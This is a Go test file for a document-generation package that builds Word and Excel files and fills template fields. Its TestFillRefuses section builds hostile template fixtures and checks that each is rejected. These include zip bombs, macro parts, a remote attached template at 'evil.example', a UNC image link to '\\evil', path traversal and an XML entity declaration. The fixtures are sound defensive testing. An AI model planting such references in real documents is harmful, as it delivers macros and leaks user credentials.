package office_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"hutong/internal/dataspace"
	"hutong/internal/office"
)

// unzip reads the parts of a package and checks that each is well-formed.
func unzip(t interface {
	Helper()
	Fatalf(string, ...any)
}, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("open package: %v", err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatalf("open %s: %v", f.Name, err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("read %s: %v", f.Name, err)
		}
		if strings.HasSuffix(f.Name, ".xml") || strings.HasSuffix(f.Name, ".rels") {
			dec := xml.NewDecoder(bytes.NewReader(text))
			for {
				if _, err := dec.Token(); errors.Is(err, io.EOF) {
					break
				} else if err != nil {
					t.Fatalf("%s is not well-formed: %v", f.Name, err)
				}
			}
		}
		out[f.Name] = string(text)
	}
	return out
}

func build(t testing.TB, blocks ...office.Block) []byte {
	t.Helper()
	d := office.Document{Title: "标题", Language: "zh-CN", Draft: "草稿 DRAFT", Blocks: blocks}
	data, err := d.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func paragraph(runs ...string) office.Paragraph {
	p := office.Paragraph{Style: office.Body}
	for _, r := range runs {
		p.Runs = append(p.Runs, office.Run{Text: r})
	}
	return p
}

func TestDocumentHasPrescribedLayout(t *testing.T) {
	parts := unzip(t, build(t, office.Paragraph{ID: "t_a", Style: office.Heading1, Runs: []office.Run{{Text: "一、A & B"}}}))
	for part, wants := range map[string][]string{
		"word/document.xml": {`<w:pgSz w:w="11906" w:h="16838"/>`, `w:top="1440" w:right="1803" w:bottom="1440" w:left="1803"`, `w:name="t_a"`, `A &amp; B`},
		"word/styles.xml": {`w:line="520" w:lineRule="exact"`, `w:firstLineChars="200" w:firstLine="560"`, `w:ascii="Times New Roman" w:hAnsi="Times New Roman" w:cs="Times New Roman" w:eastAsia="仿宋"`,
			`w:eastAsia="黑体"`, `w:eastAsia="楷体"`, `<w:sz w:val="28"/>`},
		"word/header1.xml": {"草稿 DRAFT", "v:textpath"},
		"word/footer1.xml": {" PAGE "},
	} {
		for _, want := range wants {
			if !strings.Contains(parts[part], want) {
				t.Errorf("%s has no %s", part, want)
			}
		}
	}
	final := office.Document{Title: "x", Language: "en-GB"}
	data, err := final.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if got := unzip(t, data)["word/header1.xml"]; strings.Contains(got, "DRAFT") || strings.Contains(got, "textpath") {
		t.Errorf("a final document is marked as a draft: %s", got)
	}
}

// A document with any text is well-formed, has the same bytes when it is
// written twice, and contains the text.
func TestDocumentHoldsAnyText(t *testing.T) {
	tags := regexp.MustCompile(`<[^>]*>`)
	rapid.Check(t, func(rt *rapid.T) {
		text := rapid.StringMatching(`[a-z<>&"'{}%中文，\n]{1,40}`).Draw(rt, "text")
		blocks := []office.Block{paragraph(text), office.Table{ID: "t_x", Widths: []int{1, 2}, Head: []string{text, "b"}, Rows: [][]office.Cell{{{ID: "t_x", Runs: []office.Run{{Text: text, Mark: true}}}}}}, office.PageBreak{}}
		one, two := build(t, blocks...), build(t, blocks...)
		if !bytes.Equal(one, two) {
			rt.Fatal("the same document has different bytes")
		}
		doc := unzip(rt, one)["word/document.xml"]
		got := tags.ReplaceAllString(strings.ReplaceAll(doc, "<w:br/>", "\n"), "")
		for _, r := range []struct{ from, to string }{{"&lt;", "<"}, {"&gt;", ">"}, {"&#34;", `"`}, {"&#39;", "'"}, {"&amp;", "&"}} {
			got = strings.ReplaceAll(got, r.from, r.to)
		}
		if strings.Count(got, text) < 3 {
			rt.Fatalf("%q is not in %q three times", text, got)
		}
		if strings.Count(doc, `w:name="t_x"`) != 1 {
			rt.Fatal("a bookmark is there twice")
		}
	})
}

func TestSheet(t *testing.T) {
	s := office.Sheet{Name: "清单 List", Draft: "草稿 DRAFT", Notes: []string{"n"}, Head: []string{"A", "B"}, Widths: []int{5, 10}, Rows: [][]string{{"=1+1", "a<b"}}}
	one, err := s.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	two, _ := s.Bytes() // the first one passed
	if !bytes.Equal(one, two) {
		t.Error("the same sheet has different bytes")
	}
	sheet := unzip(t, one)["xl/worksheets/sheet1.xml"]
	for _, want := range []string{`r="A4" s="1" t="inlineStr"><is><t xml:space="preserve">=1+1`, "a&lt;b", `ySplit="3"`} {
		if !strings.Contains(sheet, want) {
			t.Errorf("no %s in %s", want, sheet)
		}
	}
	if strings.Contains(sheet, "<f>") {
		t.Error("a cell is a formula")
	}
}

var texts = regexp.MustCompile(`<w:t[^>]*>([^<]*)</w:t>|(<w:br/>)`)

// words is the text of a document.
func words(t *testing.T, data []byte) string {
	t.Helper()
	var b strings.Builder
	for _, m := range texts.FindAllStringSubmatch(unzip(t, data)["word/document.xml"], -1) {
		b.WriteString(m[1])
		if m[2] != "" {
			b.WriteString("\n")
		}
	}
	return b.String()
}

func TestFillFields(t *testing.T) {
	values := map[string]string{"name": "甲公司", "a.b[0].c": "x & y", "lines": "one\ntwo", "tricky": "{{name}}", "empty": ""}
	for name, c := range map[string]struct {
		runs []string
		want string
		n    int
	}{
		"whole":      {[]string{"我是{{name}}。"}, "我是甲公司。", 1},
		"spaces":     {[]string{"{{ name }}"}, "甲公司", 1},
		"split":      {[]string{"a {", "{na", "me}", "} b"}, "a 甲公司 b", 1},
		"two":        {[]string{"{{name}}-{{", "name}}"}, "甲公司-甲公司", 2},
		"adjacent":   {[]string{"{{name}}{{a.b[0].c}}"}, "甲公司x &amp; y", 2},
		"straddling": {[]string{"1{{name}}2{{na", "me}}3{{name}}4"}, "1甲公司2甲公司3甲公司4", 3},
		"lines":      {[]string{"{{lines}}"}, "one\ntwo", 1},
		"no-twice":   {[]string{"{{tricky}}"}, "{{name}}", 1},
		"empty":      {[]string{"[{{empty}}]"}, "[]", 1},
		"unknown":    {[]string{"{{nobody}} {{name}}"}, "{{nobody}} 甲公司", 1},
		"no-field":   {[]string{"{name} {{}} {{a b}}"}, "{name} {{}} {{a b}}", 0},
	} {
		t.Run(name, func(t *testing.T) {
			out, report, err := office.Fill(build(t, paragraph(c.runs...)), values, "")
			if err != nil {
				t.Fatal(err)
			}
			if got := words(t, out); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
			if report.Filled != c.n {
				t.Errorf("%d places filled, want %d", report.Filled, c.n)
			}
		})
	}
	_, report, err := office.Fill(build(t, paragraph("{{nobody}}{{name}}{{nobody}}")), values, "")
	if err != nil {
		t.Fatal(err)
	}
	want := office.Filled{Filled: 1, Unknown: []string{"nobody"}, Unused: []string{"a.b[0].c", "empty", "lines", "tricky"}}
	if diff := cmp.Diff(want, report); diff != "" {
		t.Error(diff)
	}
}

// replace makes a template of a document by putting text into one part.
func replace(t testing.TB, data []byte, part, from, to string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	done := false
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if f.Name == part {
			done = strings.Contains(string(text), from)
			text = []byte(strings.Replace(string(text), from, to, 1))
		}
		entry, err := w.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := entry.Write(text); err != nil {
			t.Fatal(err)
		}
	}
	if !done {
		entry, err := w.Create(part)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := entry.Write([]byte(to)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const controls = `<w:sdt><w:sdtPr><w:alias w:val="Name"/><w:tag w:val="name"/><w:showingPlcHdr/><w:dataBinding w:xpath="/x" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>Click </w:t></w:r><w:r><w:t>here</w:t></w:r></w:p></w:sdtContent></w:sdt>` +
	`<w:p><w:r><w:t>Beside {{name}} </w:t></w:r><w:sdt><w:sdtPr><w:alias w:val="alias"/></w:sdtPr><w:sdtContent><w:r><w:t>old</w:t></w:r></w:sdtContent></w:sdt><w:r><w:t> and {{name}}</w:t></w:r></w:p>` +
	`<w:sdt><w:sdtPr><w:tag w:val="group"/></w:sdtPr><w:sdtContent><w:sdt><w:sdtPr><w:tag w:val="nobody"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>left</w:t></w:r></w:p></w:sdtContent></w:sdt></w:sdtContent></w:sdt>`

func TestFillContentControls(t *testing.T) {
	template := replace(t, build(t, paragraph("MARK")), "word/document.xml", "<w:sectPr>", controls+"<w:sectPr>")
	out, report, err := office.Fill(template, map[string]string{"name": "甲", "alias": "{{name}}", "group": "no"}, "")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := words(t, out), "MARK甲Beside 甲 {{name}} and 甲left"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	doc := unzip(t, out)["word/document.xml"]
	if strings.Contains(doc, "showingPlcHdr") || strings.Contains(doc, "dataBinding") {
		t.Error("the control is still a placeholder or bound")
	}
	want := office.Filled{Filled: 4, Unknown: []string{"nobody"}, Unused: []string{"group"}}
	if diff := cmp.Diff(want, report); diff != "" {
		t.Error(diff)
	}
}

// A row whose fields belong to the entries of a list is repeated.
func TestFillRepeatsRows(t *testing.T) {
	values := map[string]string{"title": "T", "list[0].a": "one", "list[0].b": "x", "list[1].a": "two", "list[2].a": "three", "list[2].b": "z"}
	cells := func(texts ...string) []office.Cell {
		var out []office.Cell
		for _, c := range texts {
			half := len(c) / 2
			out = append(out, office.Cell{Runs: []office.Run{{Text: c[:half]}, {Text: c[half:]}}})
		}
		return out
	}
	table := office.Table{Widths: []int{1, 1, 1}, Head: []string{"{{title}}", "h", "h"}, Rows: [][]office.Cell{
		cells("{{list[].#}}", "{{list[].a}}", "{{list[].b}}{{title}}"), cells("{{gone[].a}}", "{{title}}", "{{list[1].a}}")}}
	out, report, err := office.Fill(build(t, table), values, "")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := words(t, out), "Thh1onexT2twoT3threezT{{gone[].a}}Ttwo"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := strings.Count(unzip(t, out)["word/document.xml"], "<w:tr>"); got != 5 {
		t.Errorf("%d rows, want 5", got)
	}
	if diff := cmp.Diff(office.Filled{Filled: 15, Unknown: []string{"gone[].a"}, Unused: []string{}}, report); diff != "" {
		t.Error(diff)
	}
}

// Parts without a field stay unchanged, byte for byte.
func TestFillLeavesTheRest(t *testing.T) {
	template := replace(t, build(t, paragraph("x")), "word/_rels/document.xml.rels", "</Relationships>",
		`<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Forms\t.dotx" TargetMode="External"/><Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>`)
	out, _, err := office.Fill(template, map[string]string{"name": "v"}, "")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(unzip(t, template), unzip(t, out)); diff != "" {
		t.Error(diff)
	}
}

func TestFillMarksDraft(t *testing.T) {
	bare := `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>a</w:t></w:r></w:p></w:body></w:document>`
	for name, template := range map[string][]byte{
		"with-headers": build(t, paragraph("a")),
		"no-section":   replaceAll(t, build(t, paragraph("a")), bare),
		"empty":        replaceAll(t, build(t, paragraph("a")), strings.Replace(bare, "</w:body>", "<w:sectPr/></w:body>", 1)),
	} {
		t.Run(name, func(t *testing.T) {
			out, _, err := office.Fill(template, nil, "NOT FINAL")
			if err != nil {
				t.Fatal(err)
			}
			parts := unzip(t, out)
			if !strings.Contains(parts["word/hutongDraft.xml"], "NOT FINAL") || !strings.Contains(parts["word/header1.xml"], "NOT FINAL") {
				t.Error("a heading has no mark")
			}
			for _, kind := range []string{"default", "first", "even"} {
				if n := len(regexp.MustCompile(`headerReference[^>]* w:type="`+kind+`"`).FindAllString(parts["word/document.xml"], -1)); n != 1 {
					t.Errorf("pages of the kind %s have no heading, or two", kind)
				}
			}
		})
	}
}

func replaceAll(t testing.TB, data []byte, document string) []byte {
	t.Helper()
	old := unzip(t, data)["word/document.xml"]
	return replace(t, data, "word/document.xml", old, document)
}

func TestFillRefuses(t *testing.T) {
	good := build(t, paragraph("x"))
	deep := strings.Repeat("<w:r>", 600) + strings.Repeat("</w:r>", 600)
	many := good
	for _, name := range []string{"word/a.bin", "word/b.bin", "word/c.bin"} {
		many = replace(t, many, name, "\x00", strings.Repeat("0", 25<<20))
	}
	for name, template := range map[string][]byte{
		"bombs":      many,
		"no-zip":     []byte("hello"),
		"empty":      nil,
		"macros":     replace(t, good, "word/vbaProject.bin", "\x00", "macro"),
		"macro-type": replace(t, good, "[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml"),
		"macro-else": replace(t, good, "[Content_Types].xml", "</Types>", `<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`),
		"outside-template": replace(t, good, "word/_rels/settings.xml.rels", "\x00",
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`),
		"outside-picture": replace(t, good, "word/_rels/document.xml.rels", "</Relationships>",
			`<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\evil\a.png" TargetMode="External"/></Relationships>`),
		"signed":      replace(t, good, "_xmlsignatures/sig1.xml", "\x00", "<a/>"),
		"outside":     replace(t, good, "../evil.xml", "\x00", "<a/>"),
		"twice":       replace(t, good, "word/Document.xml", "\x00", "<a/>"),
		"broken":      replace(t, good, "word/document.xml", "</w:body>", ""),
		"entity":      replace(t, good, "word/document.xml", "<w:document", `<!DOCTYPE x [<!ENTITY a "b">]><w:document`),
		"deep":        replace(t, good, "word/document.xml", "</w:body>", deep+"</w:body>"),
		"other-chars": replace(t, good, "word/document.xml", `encoding="UTF-8"`, `encoding="GB18030"`),
		"bomb":        replace(t, good, "word/media/a.bin", "\x00", strings.Repeat("0", 33<<20)),
		"no-document": replace(t, good, "[Content_Types].xml", "", "")[:40],
	} {
		t.Run(name, func(t *testing.T) {
			if _, _, err := office.Fill(template, nil, ""); !errors.Is(err, dataspace.ErrInvalid) {
				t.Errorf("got %v", err)
			}
		})
	}
}

// No input causes a crash, and the output can be filled again. The test changes
// the text of a document, not the bytes of its zip: nearly every changed zip is
// invalid.
func FuzzFill(f *testing.F) {
	good := build(f, paragraph("{{na", "me}}"))
	document := unzip(f, good)["word/document.xml"]
	f.Add(document)
	f.Add(strings.Replace(document, "<w:sectPr>", controls+"<w:sectPr>", 1))
	f.Fuzz(func(t *testing.T, text string) {
		template := replace(t, good, "word/document.xml", document, text)
		out, _, err := office.Fill(template, map[string]string{"name": "a<b\nc"}, "DRAFT")
		if err != nil {
			if !errors.Is(err, dataspace.ErrInvalid) {
				t.Fatalf("an error of no kind: %v", err)
			}
			return
		}
		if _, _, err := office.Fill(out, nil, ""); err != nil {
			t.Fatalf("what was filled cannot be filled again: %v", err)
		}
	})
}
